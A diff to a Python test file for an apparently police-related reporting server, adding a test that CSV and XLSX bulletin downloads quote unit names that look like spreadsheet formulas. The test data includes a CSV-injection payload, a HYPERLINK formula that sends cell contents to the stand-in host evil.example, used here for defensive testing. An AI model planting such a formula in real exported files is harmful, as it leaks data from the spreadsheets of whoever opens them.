@@ -7,9 +7,11 @@ import csv
 import io
 from typing import Any
 
+import msgspec
 import openpyxl
 import pytest
 
+from server.store.records import Actor
 from tests.support.api import as_user, assert_problem
 from tests.support.day import run_day
 
@@ -220,7 +222,8 @@ async def test_nobody_reads_outside_their_jurisdiction(client, store, clock, cit
     assert_problem(
         await client.get(REPORT, headers=county2, params={"date_from": "2026-11-25"}),
         400,
-        "malformed_body",
+        "validation_failed",
+        "date_to",
     )
 
 
@@ -352,3 +355,52 @@ async def test_the_ranking_without_officers_has_the_same_figures(
         404,
         "not_found",
     )
+
+
+async def test_a_unit_named_like_a_formula_stays_text_in_both_downloads(
+    client, store, clock, city
+) -> None:
+    # A unit named `=HYPERLINK(...)` went out as it was: Excel and WPS ran it as a
+    # formula in the sheet a supervisor opened (CSV injection). OWASP's rule quotes it.
+    await run_day(client, store, clock, city)
+    link = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    renamed = {
+        "411600": "@SUM(1+1)",  # the city: its name starts the title
+        "411602": link,
+        "411602-01": "-2+3",
+        "411602-02": "+陈州派出所",
+        "411621": "\t扶沟县公安局",
+        "411621-01": "\r城关派出所",
+    }
+    store.upsert_units(
+        [
+            msgspec.structs.replace(store.get_unit(code), name=name)
+            for code, name in renamed.items()
+        ],
+        Actor.system(),
+    )
+    admin = await as_user(client, "admin")
+    day = {"day": "2026-11-25"}
+
+    response = await client.get(f"{BULLETIN}/csv", headers=admin, params=day)
+    title, header, *rows = list(csv.reader(io.StringIO(response.content[3:].decode("utf-8"))))
+    assert title == ["'@SUM(1+1)日通报 2026-11-25至2026-11-25"]
+    names = {r[header.index("单位编码")]: r[header.index("单位")] for r in rows}
+    assert names == {code: "'" + name for code, name in renamed.items()}
+    chuanhui = dict(zip(header, next(r for r in rows if r[2] == "411602"), strict=True))
+    assert chuanhui["挽损金额(元)"] == "105000"  # numbers are left as they are
+
+    response = await client.get(f"{BULLETIN}/xlsx", headers=admin, params=day)
+    book = openpyxl.load_workbook(io.BytesIO(response.content))
+    sheet = book["通报"]
+    assert sheet["A1"].value == "'@SUM(1+1)日通报 2026-11-25至2026-11-25"
+    cells = list(sheet.iter_rows(min_row=3))
+    # XLSX stores a carriage return as _x000D_, which openpyxl hands back as it is.
+    quoted = {c: "'" + n.replace("\r", "_x000D_") for c, n in renamed.items()}
+    assert {r[2].value: r[3].value for r in cells} == quoted
+    assert all(r[3].data_type == "s" for r in cells)  # text, never a formula
+    row = next(r for r in cells if r[2].value == "411602")
+    amount = row[header.index("挽损金额(元)")]
+    assert (amount.value, amount.data_type) == (105_000, "n")
+    lagging = [c.value for (c,) in book["落后单位"].iter_rows(min_row=2)]
+    assert lagging == ["'" + link, "'-2+3"]
